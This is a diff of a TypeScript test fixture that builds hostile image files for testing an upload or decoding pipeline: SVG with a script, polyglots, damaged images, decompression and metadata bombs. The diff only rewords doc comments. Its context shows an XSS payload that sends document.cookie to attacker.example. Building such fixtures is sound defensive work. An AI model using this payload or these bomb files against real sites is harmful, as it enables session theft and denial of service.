@@ -7,7 +7,7 @@ const text = (value: string) => Buffer.from(value, 'latin1');
 const SCRIPT = "<script>fetch('https://attacker.example/' + document.cookie)</script>";
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`;
 
-/** A picture of random pixels, so that every part of its file has a meaning. */
+/** Creates a picture of random pixels, so that every part of its file has a meaning. */
 export function noise(width: number, height: number): Sharp {
   return sharp({
     create: { width, height, channels: 3, background: '#888', noise: { type: 'gaussian', mean: 128, sigma: 40 } },
@@ -18,7 +18,7 @@ function plain(width: number, height: number): Sharp {
   return sharp({ create: { width, height, channels: 3, background: '#808080' } });
 }
 
-/** Files that are no pictures of an accepted type. No decoder sees them. */
+/** Creates files that are no pictures of an accepted type. No decoder sees them. */
 export async function foreignFiles(): Promise<HostilePicture[]> {
   return [
     ['SVG with a script', text(SVG)],
@@ -57,7 +57,7 @@ export async function foreignFiles(): Promise<HostilePicture[]> {
   ].map(([name, bytes]) => ({ name, bytes }) as HostilePicture);
 }
 
-/** Pictures that another program reads as something else. */
+/** Creates pictures that another program reads as something else. */
 export async function polyglots(): Promise<HostilePicture[]> {
   const jpg = await noise(64, 64).jpeg().toBuffer();
   const png = await noise(64, 64).png().toBuffer();
@@ -78,7 +78,7 @@ export async function polyglots(): Promise<HostilePicture[]> {
   ];
 }
 
-/** Pictures without their end, and with damage. */
+/** Creates pictures without their end, and with damage. */
 async function damagedPictures(): Promise<HostilePicture[]> {
   const files = {
     JPEG: await noise(400, 300).jpeg().toBuffer(),
@@ -120,7 +120,7 @@ async function damagedPictures(): Promise<HostilePicture[]> {
   ];
 }
 
-/** Small files that decode into very much, or have sides without end. */
+/** Creates small files that decode into very much, or have sides without end. */
 async function bombs(): Promise<HostilePicture[]> {
   const header = await plain(64, 64).jpeg().toBuffer();
   return [
@@ -163,7 +163,7 @@ async function bombs(): Promise<HostilePicture[]> {
   ];
 }
 
-/** Pictures with metadata that would take 300 MB. Decoders ignore it, so these pictures are accepted. */
+/** Creates pictures with metadata that would take 300 MB. Decoders ignore it, so these pictures are accepted. */
 export function metadataBombs(): HostilePicture[] {
   const whole = png({ width: 9, height: 9, data: deflateSync(Buffer.alloc(9 * 28)) });
   return [
@@ -172,7 +172,7 @@ export function metadataBombs(): HostilePicture[] {
   ];
 }
 
-/** About a hundred files of all kinds. */
+/** Creates about a hundred files of all kinds. */
 export async function hostilePictures(): Promise<HostilePicture[]> {
   return [...(await foreignFiles()), ...(await polyglots()), ...(await damagedPictures()), ...(await bombs())];
 }
@@ -205,7 +205,7 @@ function png({
   return Buffer.concat([text('\x89PNG\r\n\x1a\n'), chunk('IHDR', header), chunk('IDAT', data), end]);
 }
 
-/** A PNG with another chunk after its header. */
+/** Returns a PNG with another chunk after its header. */
 function withChunk(file: Buffer, type: string, data: Buffer): Buffer {
   return Buffer.concat([file.subarray(0, 33), chunk(type, data), file.subarray(33)]);
 }
@@ -246,7 +246,7 @@ function damaged(file: Buffer, part: number): Buffer {
   return changed;
 }
 
-/** An archive with one empty file. */
+/** Creates an archive with one empty file. */
 function zip(): Buffer {
   const local = Buffer.concat([text('PK\x03\x04'), Buffer.alloc(26), text('a')]);
   const central = Buffer.concat([text('PK\x01\x02'), Buffer.alloc(42), text('a')]);
